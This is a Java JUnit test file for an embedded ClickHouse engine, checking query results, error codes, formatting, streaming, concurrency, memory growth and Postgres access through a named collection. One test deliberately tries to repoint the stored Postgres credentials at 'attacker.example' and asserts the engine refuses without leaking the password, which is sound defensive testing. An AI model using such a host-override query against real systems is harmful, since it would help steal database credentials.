package io.chgate.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.chgate.testkit.LocalStack;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The real ClickHouse 26 engine, loaded in this JVM. */
class EmbeddedClickHouseTest {
    static EmbeddedClickHouse engine;
    static LocalStack stack;

    @BeforeAll
    static void open() throws Exception {
        stack = LocalStack.get();
        engine = EmbeddedClickHouse.shared(stack.chdbLibrary(),
                Path.of(System.getProperty("java.io.tmpdir"), "chgate-engine-test-" + ProcessHandle.current().pid()), 4);
    }

    @Test
    void runsQueriesAndReportsCounters() {
        QueryResult r = engine.query("SELECT number * 2 FROM numbers(5)", "TSV");
        assertThat(r.text()).isEqualTo("0\n2\n4\n6\n8\n");
        assertThat(r.rowsRead()).isEqualTo(5);
        assertThat(engine.queryText("SELECT version()", "TSVRaw")).startsWith("26.");
    }

    @Test
    void errorsCarryClickHouseCodesAndText() {
        assertThatThrownBy(() -> engine.query("SELEC 1", "TSV")).isInstanceOf(EngineException.class)
                .satisfies(e -> assertThat(((EngineException) e).code()).isEqualTo(62))
                .hasMessageStartingWith("Code: 62. DB::Exception: Syntax error");
        assertThatThrownBy(() -> engine.query("SELECT * FROM no_such_db.no_such_table", "TSV"))
                .satisfies(e -> assertThat(((EngineException) e).code()).isIn(60, 81));
    }

    @Test
    void formatsQueriesTheWayClickHouseDoes() {
        assertThat(engine.formatQuery("select  a,b from t where x='it''s'"))
                .isEqualTo("SELECT\n    a,\n    b\nFROM t\nWHERE x = 'it\\'s'");
        assertThat(engine.formatQuery("SELECT * FROM postgresql(nc, table = 'orders')"))
                .isEqualTo("SELECT *\nFROM postgresql(nc, `table` = 'orders')");
    }

    @Test
    void streamsALargeResultInChunks() {
        long[] bytes = {0};
        int[] chunks = {0};
        engine.execute(EmbeddedClickHouse.Request.of("SELECT number FROM numbers(3000000)", "TSV"), chunk -> {
            bytes[0] += chunk.length;
            chunks[0]++;
            return true;
        });
        assertThat(chunks[0]).isGreaterThan(1);
        assertThat(bytes[0]).isEqualTo(Long.parseLong(engine.queryText(
                "SELECT sum(length(toString(number)) + 1) FROM numbers(3000000)", "TSVRaw").trim()));
        int[] seen = {0};
        engine.execute(EmbeddedClickHouse.Request.of("SELECT number FROM system.numbers", "TSV"), chunk -> ++seen[0] < 3);
        assertThat(seen[0]).isEqualTo(3);
        assertThat(engine.queryText("SELECT 1", "TSV")).isEqualTo("1\n");
    }

    @Test
    void readsARealPostgresTableThroughANamedCollection() {
        engine.query("DROP NAMED COLLECTION IF EXISTS engine_test_pg", "TSV");
        engine.query("CREATE NAMED COLLECTION engine_test_pg AS host = '127.0.0.1' NOT OVERRIDABLE, port = "
                + stack.pgPort() + " NOT OVERRIDABLE, user = '" + stack.pgUser() + "' NOT OVERRIDABLE, password = '"
                + stack.pgPassword() + "' NOT OVERRIDABLE, database = 'shop' NOT OVERRIDABLE, table = 'orders'", "TSV");
        assertThat(engine.queryText("SELECT id, customer, amount FROM postgresql(engine_test_pg, table = 'orders') "
                + "ORDER BY id", "TSV")).isEqualTo("1\talice\t12.5\n2\tbob\t7.25\n3\tcarol\t99.99\n");
        // ClickHouse itself refuses to let a query point the stored password at another host.
        assertThatThrownBy(() -> engine.query("SELECT * FROM postgresql(engine_test_pg, host = 'attacker.example', "
                + "table = 'orders')", "TSV")).isInstanceOf(EngineException.class)
                .hasMessageNotContaining(stack.pgPassword());
    }

    @Test
    void manyThreadsAtOnceAndTheJvmKeepsItsSignals() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(16);
        try {
            List<Future<String>> answers = new ArrayList<>();
            for (int t = 0; t < 16; t++) {
                int id = t;
                answers.add(pool.submit(() -> {
                    String last = null;
                    for (int i = 0; i < 50; i++) {
                        last = engine.queryText("SELECT " + id + " + " + i, "TSV");
                    }
                    return last;
                }));
            }
            for (int t = 0; t < 16; t++) {
                assertThat(answers.get(t).get()).isEqualTo((t + 49) + "\n");
            }
        } finally {
            pool.shutdownNow();
        }
        Object nothing = null;
        assertThatThrownBy(() -> nothing.hashCode()).isInstanceOf(NullPointerException.class);
        System.gc();
    }

    @Test
    void tenThousandQueriesDoNotGrowNativeMemory() throws Exception {
        for (int i = 0; i < 500; i++) {
            engine.queryText("SELECT " + i, "TSV");
        }
        long before = rssKb();
        for (int i = 0; i < 10_000; i++) {
            engine.queryText("SELECT number, toString(number) FROM numbers(10) WHERE number = " + (i % 10), "TSV");
        }
        long growthMb = (rssKb() - before) / 1024;
        System.out.println("RSS growth over 10,000 engine queries: " + growthMb + " MiB");
        assertThat(growthMb).as("RSS growth in MiB").isLessThan(64);
    }

    private static long rssKb() throws Exception {
        for (String line : java.nio.file.Files.readAllLines(Path.of("/proc/self/status"))) {
            if (line.startsWith("VmRSS:")) {
                return Long.parseLong(line.replaceAll("[^0-9]", ""));
            }
        }
        throw new IllegalStateException("no VmRSS in /proc/self/status");
    }
}
